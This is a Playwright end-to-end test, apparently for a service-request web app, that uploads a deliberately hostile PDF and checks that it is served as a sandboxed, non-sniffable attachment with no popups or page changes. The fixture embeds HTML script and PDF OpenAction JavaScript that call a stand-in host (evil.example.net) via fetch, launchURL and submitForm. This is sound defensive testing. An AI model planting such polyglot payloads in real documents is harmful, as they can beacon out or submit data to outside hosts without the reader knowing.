import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { raiseRequest } from "../service-request/steps.ts";
import { expect, test } from "../support/test.ts";

const folder = mkdtempSync(join(tmpdir(), "pharos-e2e-pdf-"));
test.afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** A PDF that asks for everything one can ask for when it is opened, and that is a page to whoever takes it for one. */
const hostile = `%PDF-1.7
<html><body><script>parent.document.title = "taken"; alert("page"); fetch("https://evil.example.net/page")</script></body></html>
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /AA << /O 5 0 R >> >> endobj
4 0 obj << /S /JavaScript /JS (app.alert\\("pdf"\\); app.launchURL\\("https://evil.example.net/pdf", true\\); this.submitForm\\("https://evil.example.net/form"\\);) >> endobj
5 0 obj << /S /URI /URI (https://evil.example.net/uri) >> endobj
trailer << /Root 1 0 R >>
%%EOF
`;

test("a hostile PDF is shown as a PDF only, and reaches neither the page nor anyone else", async ({
  journey,
}) => {
  const { t } = journey;
  const page = await journey.as("customer");
  const id = await raiseRequest(page, { title: "PDF", symptom: "PDF" });
  await page.goto(`/service/record/${id}`);
  const path = join(folder, "report.pdf");
  writeFileSync(path, hostile);
  const files = page.getByRole("region", { name: t("file.title") });
  await files.locator("input[type=file]").first().setInputFiles(path);
  const opened: string[] = [];
  page.on("dialog", (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("popup", (popup) => opened.push(popup.url()));
  const answer = page.waitForResponse(
    (response) => response.request().method() === "GET" && response.url().includes("/files/private/"),
  );
  await files.getByRole("button", { name: "report.pdf", exact: true }).click();
  const headers = (await answer).headers();
  expect(headers["content-type"]).toBe("application/pdf");
  expect(headers["content-disposition"]).toMatch(/^attachment;/);
  expect(headers["content-security-policy"]).toMatch(/^sandbox; default-src 'none'/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const shown = page.getByRole("dialog", { name: "report.pdf" }).locator("iframe");
  await expect(shown).toHaveAttribute("src", /^blob:/);
  const frame = await (await shown.elementHandle())?.contentFrame();
  await frame?.waitForLoadState();
  expect(await frame?.evaluate(() => document.contentType)).toBe("application/pdf");
  expect(await page.title()).not.toBe("taken");
  // The browser's viewer keeps scripts of a PDF to itself; the most that it lets them do is to say something.
  expect([opened.filter((words) => words !== "pdf"), page.context().pages().length]).toEqual([[], 1]);
  await journey.screenshot("hostile-pdf");
});
